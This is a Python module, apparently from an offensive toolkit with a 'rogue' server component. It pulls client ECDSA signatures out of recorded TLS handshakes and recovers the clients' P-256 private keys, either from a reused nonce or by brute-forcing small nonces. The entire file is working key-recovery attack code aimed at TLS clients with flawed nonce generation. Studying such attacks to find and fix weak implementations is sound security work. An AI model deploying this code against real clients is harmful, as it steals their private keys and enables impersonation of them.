# SPDX-License-Identifier: Apache-2.0
"""What a server learns from the signatures its clients make for it, and whether a private key follows from them.

Sources: RFC 5246, 7.4.8 and RFC 8446, 4.4.3 (CertificateVerify); SEC 1, 4.1.3 (ECDSA): two signatures with one nonce,
or one with a nonce that is known, give the private key away.
"""

from __future__ import annotations

import hashlib
from collections.abc import Sequence
from dataclasses import dataclass, field

from cryptography import x509
from cryptography.exceptions import InvalidSignature
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.utils import Prehashed, decode_dss_signature
from cryptography.hazmat.primitives.hashes import SHA256, SHA384, SHA512, HashAlgorithm

from offchip.attacks.carving import P256_ORDER
from offchip.attacks.rogue import Visit

_CERTIFICATE, _CERTIFICATE_VERIFY = 11, 15
_CLIENT_CONTEXT = b" " * 64 + b"TLS 1.3, client CertificateVerify\0"
#: signature scheme (RFC 8446, 4.2.3) -> hash
_HASHES: dict[int, tuple[str, HashAlgorithm]] = {
    0x0403: ("sha256", SHA256()), 0x0503: ("sha384", SHA384()), 0x0603: ("sha512", SHA512())}
_LARGEST_GUESS = 4096


@dataclass(frozen=True, slots=True)
class Signature:
    """One that was verified. ``digest``: of what was signed, as a number of the group's size."""

    public_key: ec.EllipticCurvePublicKey
    r: int
    s: int
    digest: int
    encoded: bytes = field(repr=False)


def signatures_of(visit: Visit) -> list[Signature]:
    """The client's signature in a recorded handshake, if it made one and it verifies."""
    shown = None
    transcript = b""
    for direction, message in visit.handshake:
        if direction == "received" and message[0] == _CERTIFICATE:
            shown = _certificate(message, visit.version)
        if direction == "received" and message[0] == _CERTIFICATE_VERIFY and shown is not None:
            made = _verified(shown, message, transcript, visit.version)
            return [made] if made else []
        transcript += message
    return []


def recover(signatures: Sequence[Signature]) -> ec.EllipticCurvePrivateKey | None:
    """The private key behind them, if two share a nonce or one has a nonce that can be guessed; None if not."""
    for at, one in enumerate(signatures):
        for other in signatures[at + 1:]:
            if one.r == other.r and one.s != other.s:
                nonce = (one.digest - other.digest) * pow(one.s - other.s, -1, P256_ORDER)
                if key := _key(one, nonce % P256_ORDER):
                    return key
    small = _small_nonces() if signatures else {}
    for each in signatures:
        if each.r in small and (key := _key(each, small[each.r])):
            return key
    return None


def _small_nonces() -> dict[int, int]:
    """r -> nonce, for nonces a broken generator gives."""
    found = {}
    for nonce in range(1, _LARGEST_GUESS):
        point = ec.derive_private_key(nonce, ec.SECP256R1()).public_key().public_numbers()
        found[point.x % P256_ORDER] = nonce
    return found


def _key(signature: Signature, nonce: int) -> ec.EllipticCurvePrivateKey | None:
    """The key a signature with this nonce belongs to, if it is the signer's; either sign of the nonce."""
    for sign in (nonce, -nonce):
        value = (signature.s * sign - signature.digest) * pow(signature.r, -1, P256_ORDER) % P256_ORDER
        if not value:
            continue
        key = ec.derive_private_key(value, ec.SECP256R1())
        if key.public_key().public_numbers() == signature.public_key.public_numbers():
            return key
    return None


def _certificate(message: bytes, version: str) -> x509.Certificate | None:
    """The first certificate of a Certificate message (RFC 5246, 7.4.2; RFC 8446, 4.4.2)."""
    body = message[4:]
    if version == "TLSv1.3":
        body = body[1 + body[0]:]
    if len(body) < 6:
        return None  # the client has none
    size = int.from_bytes(body[3:6], "big")
    try:
        return x509.load_der_x509_certificate(body[6:6 + size])
    except ValueError:
        return None


def _verified(shown: x509.Certificate, message: bytes, transcript: bytes, version: str) -> Signature | None:
    scheme = int.from_bytes(message[4:6], "big")
    public = shown.public_key()
    if scheme not in _HASHES or not isinstance(public, ec.EllipticCurvePublicKey):
        return None
    name, algorithm = _HASHES[scheme]
    encoded = message[8:8 + int.from_bytes(message[6:8], "big")]
    for transcript_hash in ("sha256", "sha384"):  # of the suite in TLS 1.3; TLS 1.2 signs the messages themselves
        signed = transcript if version != "TLSv1.3" else \
            _CLIENT_CONTEXT + hashlib.new(transcript_hash, transcript).digest()
        digest = hashlib.new(name, signed).digest()
        try:
            public.verify(encoded, digest, ec.ECDSA(Prehashed(algorithm)))
        except InvalidSignature:
            continue
        r, s = decode_dss_signature(encoded)
        return Signature(public, r, s, int.from_bytes(digest[:32], "big"), encoded)
    return None
